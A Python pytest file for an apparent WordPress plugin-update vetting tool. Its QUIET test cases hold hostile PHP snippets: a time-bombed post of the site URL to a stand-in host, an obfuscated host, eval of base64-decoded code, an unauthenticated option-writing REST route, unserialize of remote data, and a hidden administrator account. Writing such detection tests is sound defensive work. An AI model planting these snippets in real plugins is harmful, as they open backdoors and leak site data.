"""Bumps that mean harm and keep quiet about it are loud on the first screen; honest ones are green."""

import pytest
from packages import MAIN, known, plugin

from reconciler.core.vetting.accepted import Acceptance
from reconciler.core.vetting.bump import compare
from reconciler.core.vetting.candidate import Candidate, Grants
from reconciler.core.vetting.lanes import lane
from reconciler.core.vetting.packaging import php_paths
from reconciler.core.vetting.php.analysis import analyse_php
from reconciler.core.vetting.php.report import PhpReport
from reconciler.core.vetting.report import Report, report
from reconciler.core.vetting.report_text import first_screen
from reconciler.core.vetting.vet import Around, vet

GRANTS = Grants(
    network=("api.example",),
    cron=("event_list_purge",),
    routes=("event-list/v1",),
    writes="uploads",
)
INC = """<?php
add_shortcode('event_list', 'event_list_show');
function event_list_show() { return esc_html(get_option('event_list_title')); }
function event_list_fetch() { return wp_remote_get('https://api.example/v1/events'); }
"""
NOW = MAIN.replace("3.10", "3.11")

# What is added to inc/list.php, and what the first screen must say.
QUIET = {
    "dormant": (
        "if (time() > strtotime('2027-04-05')) { wp_remote_post('https://analytics.example/', ['body' => get_bloginfo('url')]); }",
        "analytics.example",
    ),
    "hidden host": (
        "function event_list_ping() { wp_remote_get('https://' . strrev('elpmaxe.live') . '/x'); }",
        "evil.example",
    ),
    "option-borne": (
        "add_action('init', function () { $f = get_option('event_list_cb'); $f(get_option('event_list_arg')); });",
        "inc/list.php",
    ),
    "unserialized answer": (
        "function event_list_sync() { $r = wp_remote_get('https://api.example/x'); return unserialize(wp_remote_retrieve_body($r)); }",
        "inc/list.php",
    ),
    "a door": (
        "add_action('rest_api_init', function () { register_rest_route('event-list/v1', '/set', ['methods' => 'POST',"
        " 'callback' => function ($q) { update_option($q['k'], $q['v']); }, 'permission_callback' => '__return_true']); });",
        "event-list/v1/set",
    ),
    "an administrator": (
        "function event_list_add() { wp_insert_user(['user_login' => 'x', 'role' => 'administrator']); }",
        "inc/list.php",
    ),
    "a later event": (
        "if (!wp_next_scheduled('event_list_late')) { wp_schedule_event(time(), 'monthly', 'event_list_late'); }",
        "event_list_late",
    ),
    "decoded code": ("eval(base64_decode('ZWNobyAxOw=='));", "inc/list.php"),
}  # fmt: skip


def analysed(candidate: Candidate) -> dict[str, PhpReport]:
    return {
        path: analyse_php(path, candidate.files[path].data) for path in php_paths(candidate.files)
    }


def bumped(added: str, main: str = NOW, acceptances: tuple[Acceptance, ...] = ()) -> Report:
    old = plugin({"inc/list.php": INC}, grants=GRANTS)
    new = plugin({"inc/list.php": INC + added + "\n"}, main=main, version="3.11", grants=GRANTS)
    around = Around(acceptances=acceptances, today="2026-08-14")
    bump = compare(
        vet(old, analysed(old), around=around),
        vet(new, analysed(new), around=around),
        old.files,
        new.files,
    )
    return report(bump.after, bump, known(30), lane(bump.after, bump, known(30)))


@pytest.mark.parametrize("name", QUIET)
def test_a_quiet_bump_is_loud_on_the_first_screen(name: str) -> None:
    added, word = QUIET[name]
    made = bumped(added)
    loud = [section for section in made.sections if section.label in {"NEW", "CAN NOW"}]
    screen = "\n".join(first_screen(made))
    assert any(section.lines for section in loud)
    assert "nothing that it could not before" not in screen or "NEW " in screen
    assert word in screen
    assert made.lane.colour != "green"


def test_a_sold_plugin_that_phones_home_starts_with_its_new_author() -> None:
    made = bumped(QUIET["dormant"][0], NOW.replace("Nils B.", "Bright Apps Ltd"))
    assert "Bright Apps Ltd" in first_screen(made)[1]
    assert made.lane.reviewers == 2


HONEST = {
    "a comment": "// Since 3.11 the list is sorted.",
    "a string": "function event_list_label() { return __('Events', 'event-list'); }",
    "a date in a text": "function event_list_year() { return 'since 2019-04-05'; }",
    "the same host": "function event_list_more() { return wp_remote_get('https://api.example/v1/more'); }",
    "escaped output": "function event_list_print() { echo esc_html(get_option('event_list_title')); }",
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_bump_is_green(name: str) -> None:
    made = bumped(HONEST[name])
    assert (made.lane.colour, made.lane.reasons) == (
        "green",
        ("same maker, nothing new", "public for 30 days"),
    )
    assert len(first_screen(made)) <= 9
